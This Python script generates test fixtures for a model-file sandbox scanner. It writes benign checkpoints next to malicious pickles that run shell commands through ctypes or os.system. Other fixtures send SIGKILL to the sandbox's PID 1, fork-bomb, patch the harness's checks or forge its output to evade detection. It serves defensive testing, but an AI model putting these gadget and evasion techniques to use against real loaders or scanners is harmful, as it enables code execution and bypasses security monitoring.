#!/usr/bin/env python3
"""Writes models for Airlock's detonation tests: gadgets that only behaviour gives away, payloads hidden until the
loaded object is used, resource bombs, an attack on the sandbox's PID 1, and realistic benign checkpoints. Writes
expectations.json: for each file, the verdict `airlock probe` must give, the dynamic finding that must prove it (if
any), and the phase it must be seen in.

    detonations.py OUTDIR --canary PATH --port N

Python 3 standard library only; nothing is unpickled here. Payloads are harmless outside the sandbox too: they touch
the canary file, connect to the test's loopback port, or are bounded (the CPU loop ends, the allocation fails at
once, the processes sleep and exit). The signal payload acts only in a user namespace that maps one id (the sandbox's: its host name is drawn).
"""
import json
import os
import struct
import sys
import zipfile

sys.path.insert(0, os.path.dirname(os.path.abspath(__file__)))
import pickles  # noqa: E402
from pickles import Build, Call, Global, PersId  # noqa: E402

EXPECT = []


def expect(name, verdict, dynamic=None, phase=None, at_least=False):
    EXPECT.append({"file": name, "verdict": verdict, "dynamic": dynamic, "phase": phase, "atLeast": at_least})


def pkl(value, proto=2):
    return pickles.assemble(value, proto)[0]


def run(code):
    """builtins.exec(code): for payloads that need statements."""
    return Call(Global("builtins", "exec"), (code,))


def tensor(key, shape, storage="FloatStorage", legacy=False):
    numel = 1
    for n in shape:
        numel *= n
    stride, acc = [], 1
    for n in reversed(shape):
        stride.insert(0, acc)
        acc *= n
    stride = tuple(stride)
    return Call(Global("torch._utils", "_rebuild_tensor_v2"),
                # The legacy format's persistent ids carry a sixth member, the view metadata (None).
                (PersId(("storage", Global("torch", storage), key, "cpu", numel) + ((None,) if legacy else ())), 0,
                 tuple(shape), stride, False,
                 Call(Global("collections", "OrderedDict"), ())))


LAYERS = [("conv1.weight", (8, 3, 3, 3)), ("conv1.bias", (8,)), ("bn1.weight", (8,)), ("bn1.bias", (8,)),
          ("bn1.running_mean", (8,)), ("bn1.running_var", (8,)), ("bn1.num_batches_tracked", ()),
          ("fc.weight", (10, 8)), ("fc.bias", (10,))]


def legacy_storages():
    """The storages after a legacy file's last pickle, as torch writes them: per key, the element count (int64)
    then the elements."""
    out = b""
    for name, shape in LAYERS:
        numel = 1
        for n in shape:
            numel *= n
        out += struct.pack("<q", numel) + bytes(numel * (8 if name.endswith("num_batches_tracked") else 4))
    return out


def realistic_state_dict(legacy=False):
    """A small CNN's state_dict as torch.save writes it: parameters, buffers, and `_metadata` set by BUILD."""
    layers = LAYERS
    entries = {}
    for i, (name, shape) in enumerate(layers):
        entries[name] = tensor(str(i), shape, "LongStorage" if name.endswith("num_batches_tracked") else "FloatStorage",
                               legacy)
    metadata = Call(Global("collections", "OrderedDict"), ([("", {"version": 1}), ("conv1", {"version": 1}),
                                                           ("bn1", {"version": 2}), ("fc", {"version": 1})],))
    sd = Build(Call(Global("collections", "OrderedDict"), ()), entries, callee="collections.OrderedDict")
    return Build(sd, (None, {"_metadata": metadata}), callee="collections.OrderedDict"), len(layers)


def torch_zip(path, data_pkl, storages):
    with zipfile.ZipFile(path, "w", zipfile.ZIP_STORED) as z:
        z.writestr("model/data.pkl", data_pkl)
        z.writestr("model/byteorder", "little")
        for i in range(storages):
            z.writestr(f"model/data/{i}", bytes(64))
        z.writestr("model/version", "3\n")


def main(out):
    os.makedirs(out, exist_ok=True)
    p = lambda name: os.path.join(out, name)  # noqa: E731
    cmd = pickles.CMD

    def write(name, data):
        with open(p(name), "wb") as f:
            f.write(data)

    # Benign, realistic: a CNN state_dict (ZIP) and a legacy training checkpoint.
    sd, n = realistic_state_dict()
    torch_zip(p("resnetish.pt"), pkl(sd), n)
    expect("resnetish.pt", "clean")
    legacy_sd, _ = realistic_state_dict(legacy=True)
    checkpoint = {"epoch": 12, "best_acc": 0.913, "arch": "resnetish", "state_dict": legacy_sd,
                  "optimizer": {"state": {}, "param_groups": [{"lr": 0.01, "momentum": 0.9, "params": list(range(n))}]}}
    write("checkpoint_legacy.pth", bytes.fromhex("80028a0a6cfc9c46f9206aa85019") + b"." + pkl(1001)
          + pkl({"protocol_version": 1001, "little_endian": True, "type_sizes": {"short": 2, "int": 4, "long": 4}})
          + pkl(checkpoint) + pkl([str(i) for i in range(n)]) + legacy_storages())
    expect("checkpoint_legacy.pth", "clean")

    # Gadgets that need no denylisted name to act; the sandbox sees what they do.
    write("ctypes_libc_system.pkl", pkl(Call(Call(Global("builtins", "getattr"),
                                                  (Call(Global("ctypes", "CDLL"), ("libc.so.6",)), "system")),
                                             (cmd.encode(),)), 4))
    expect("ctypes_libc_system.pkl", "malicious", "dynamic.exec", "load")
    write("logging_factory.pkl", pkl(Call(Global("logging.config", "dictConfig"), ({
        "version": 1, "handlers": {"h": {"()": "socket.create_connection", "address": ("127.0.0.1", pickles.PORT)}},
        "root": {"handlers": ["h"]}},)), 4))
    expect("logging_factory.pkl", "malicious", "dynamic.network", "load")
    torch_zip(p("smtplib_loopback.pt"), pkl(Build(Call(Global("collections", "OrderedDict"), ()),
                                                  {"w": Call(Global("smtplib", "SMTP"), ("127.0.0.1", pickles.PORT))},
                                                  callee="collections.OrderedDict")), 0)
    expect("smtplib_loopback.pt", "malicious", "dynamic.network", "load")

    # Hidden until the object is used: a callable that runs the payload when a consumer calls the model.
    write("callable_payload.pkl", pkl({"forward": Call(Global("functools", "partial"),
                                                       (Global("os", "system"), cmd))}, 4))
    expect("callable_payload.pkl", "malicious", "dynamic.exec", "probe")

    # Delayed: a timer thread that starts the payload after the load returned.
    timer = Call(Global("threading", "Timer"), (0.3, Global("os", "system"), [cmd]))
    write("delayed_thread.pkl", pkl(Call(Call(Global("builtins", "getattr"), (timer, "start")), ()), 4))
    expect("delayed_thread.pkl", "malicious", "dynamic.exec", "end")
    EXPECT[-1]["alsoDynamic"] = ["dynamic.left-behind"]

    # An attack on the sandbox itself: signal the parent (the sandbox's PID 1), PID 1, every process, own group.
    write("kill_parent.pkl", pkl(run(
        "import os\n"
        "if open('/proc/self/uid_map').read().split()[2:3] == ['1']:\n"
        "    for target in (os.getppid(), 1, -1):\n"
        "        try:\n"
        "            os.kill(target, 9)\n"
        "        except OSError:\n"
        "            pass\n"
        "    os.kill(0, 9)\n")))
    expect("kill_parent.pkl", "malicious", "dynamic.signal-outside", "load")

    # Resource bombs, bounded: they end within the sandbox's deadline as at least suspicious.
    write("cpu_loop.pkl", pkl(Call(Global("collections", "deque"),
                                   (Call(Global("itertools", "repeat"), (None, 10 ** 11)), 0)), 4))
    expect("cpu_loop.pkl", "suspicious", "dynamic.timeout", "load", at_least=True)
    write("memory_bomb.pkl", pkl(Call(Global("builtins", "bytearray"), (1 << 40,)), 4))
    expect("memory_bomb.pkl", "suspicious", "dynamic.resource-exhausted", "load", at_least=True)
    write("fork_bomb.pkl", pkl(run(
        "import os, time\n"
        "for _ in range(100000):\n"
        "    if os.fork() == 0:\n"
        "        time.sleep(30)\n"
        "        os._exit(0)\n")))
    expect("fork_bomb.pkl", "suspicious", "dynamic.resource-exhausted", "load", at_least=True)

    # Late actors: payloads that act after the loader returned, or that try to end the detonation on their own terms.
    # Each leaves evidence the supervisor gathers itself (phase markers, the exit status, the sandbox's processes, the
    # harness's threads and timer handlers), whatever the harness prints. `late` below acts 0.3-0.5 s later, inside
    # the observation window: the trace then sees it in phase `end`.
    write_ = "open(%r, 'w').close()" % pickles.CANARY
    late = ("def late(fork=os.fork, sleep=time.sleep, system=os.system, _exit=os._exit):\n"
            "    if fork() == 0:\n"
            "        sleep(0.3)\n"
            f"        system({cmd!r})\n"
            "        _exit(0)\n")
    write("late_alarm.pkl", pkl(run(
        "import os, signal\n"
        f"signal.signal(signal.SIGALRM, lambda *a: os.system({cmd!r}))\n"
        "signal.setitimer(signal.ITIMER_REAL, 0.5)\n")))
    expect("late_alarm.pkl", "malicious", "dynamic.exec", "end")
    EXPECT[-1]["alsoDynamic"] = ["dynamic.left-behind"]
    EXPECT[-1]["observed"] = True
    # A daemon thread that silences stderr (where the harness reported threads) and sleeps past the harness's old 2 s
    # wait: it does not act within the window, but the supervisor saw it.
    write("late_daemon_thread.pkl", pkl(run(
        "import os, threading, time\n"
        "def later():\n"
        "    os.close(2)\n"
        "    os.open('/dev/null', os.O_WRONLY)\n"
        "    time.sleep(2.5)\n"
        f"    {write_}\n"
        "threading.Thread(target=later, daemon=True).start()\n")))
    expect("late_daemon_thread.pkl", "suspicious", "dynamic.left-behind", None, at_least=True)
    EXPECT[-1]["observed"] = True
    # A forked sleeper, with the harness's own checks patched away from inside first.
    write("late_fork_patched.pkl", pkl(run(
        "import os, sys, time\n"
        "h = sys.modules.get('model_loader')\n"
        "for name, stub in (('left_behind', lambda: None), ('running_others', lambda: (0, 0)),\n"
        "                   ('settle', lambda: 0), ('other_threads', lambda: 0)):\n"
        "    if h is not None:\n"
        "        setattr(h, name, stub)\n"
        + late + "late()\n")))
    expect("late_fork_patched.pkl", "malicious", "dynamic.exec", "end")
    EXPECT[-1]["alsoDynamic"] = ["dynamic.left-behind"]
    EXPECT[-1]["observed"] = True
    # Finalizers that outlive the interpreter's shutdown by forking: __del__ of an object kept until shutdown,
    # weakref.finalize, atexit.
    write("late_del.pkl", pkl(run(
        "import os, sys, time\n" + late
        + "Keep = type('Keep', (), {'__del__': lambda self, late=late: late()})\n"
          "sys.modules['__main__'].__dict__['_airlock_test_keep'] = Keep()\n")))
    write("late_weakref.pkl", pkl(run(
        "import os, sys, time, weakref\n" + late
        + "class Target:\n"
          "    pass\n"
          "t = Target()\n"
          "sys.modules['__main__'].__dict__['_airlock_test_keep'] = t\n"
          "weakref.finalize(t, late)\n")))
    write("late_atexit.pkl", pkl(run("import atexit, os, time\n" + late + "atexit.register(late)\n")))
    for name in ("late_del.pkl", "late_weakref.pkl", "late_atexit.pkl"):
        expect(name, "malicious", "dynamic.exec", "end")
        EXPECT[-1]["alsoDynamic"] = ["dynamic.left-behind"]
        EXPECT[-1]["observed"] = True
    # The harness's "loaded" line printed by the model, then os._exit(0): the loader never returned.
    write("forged_loaded.pkl", pkl(run(
        "import os, sys\n"
        "h = sys.modules.get('model_loader')\n"
        "print(getattr(h, 'LINE_PREFIX', '') + 'loaded OrderedDict', flush=True)\n"
        "os._exit(0)\n")))
    expect("forged_loaded.pkl", "suspicious", "dynamic.early-exit", "load", at_least=True)
    # The harness's "probe-error" line (low) printed while loading: believed only in the probe phase.
    write("forged_probe_error.pkl", pkl(run(
        "import os, sys\n"
        "h = sys.modules.get('model_loader')\n"
        "print(getattr(h, 'LINE_PREFIX', '') + 'probe-error ValueError: nothing to see', file=sys.stderr, flush=True)\n"
        "os._exit(3)\n")))
    expect("forged_probe_error.pkl", "suspicious", "dynamic.early-exit", "load", at_least=True)
    # A process that forks and exits in a loop, never where a look at the process table finds it: PID 1 still has
    # a child when the loader exits, which the kernel tells it.
    write("late_fork_hopper.pkl", pkl(run(
        "import os, sys, time\n"
        "h = sys.modules.get('model_loader')\n"
        "if h is not None:\n"
        "    h.settle = lambda: 0\n"
        "if os.fork() == 0:\n"
        "    for _ in range(200):\n"
        "        if os.fork() != 0:\n"
        "            os._exit(0)\n"
        "        time.sleep(0.002)\n"
        "    os._exit(0)\n")))
    expect("late_fork_hopper.pkl", "suspicious", "dynamic.left-behind", None, at_least=True)
    # The same with the end marker announced in order first, and a sleeper forked after it: the end is believed, and
    # what the model started is still observed.
    write("forged_end.pkl", pkl(run(
        "import os, sys, time\n" + late
        + "h = sys.modules.get('model_loader')\n"
          "for phase in ('probe', 'end'):\n"
          "    try:\n"
          "        open(h.MARKERS[phase])\n"
          "    except (OSError, AttributeError, KeyError):\n"
          "        pass\n"
          "late()\n"
          "print(getattr(h, 'LINE_PREFIX', '') + 'loaded OrderedDict', flush=True)\n"
          "os._exit(0)\n")))
    expect("forged_end.pkl", "malicious", "dynamic.exec", "end")
    EXPECT[-1]["alsoDynamic"] = ["dynamic.left-behind"]
    EXPECT[-1]["observed"] = True

    with open(p("expectations.json"), "w") as f:
        json.dump(EXPECT, f, indent=1)


if __name__ == "__main__":
    args = sys.argv[1:]
    if len(args) != 5 or args[1] != "--canary" or args[3] != "--port":
        sys.exit("usage: detonations.py OUTDIR --canary PATH --port N")
    pickles.retarget(args[2], int(args[4]))
    main(args[0])
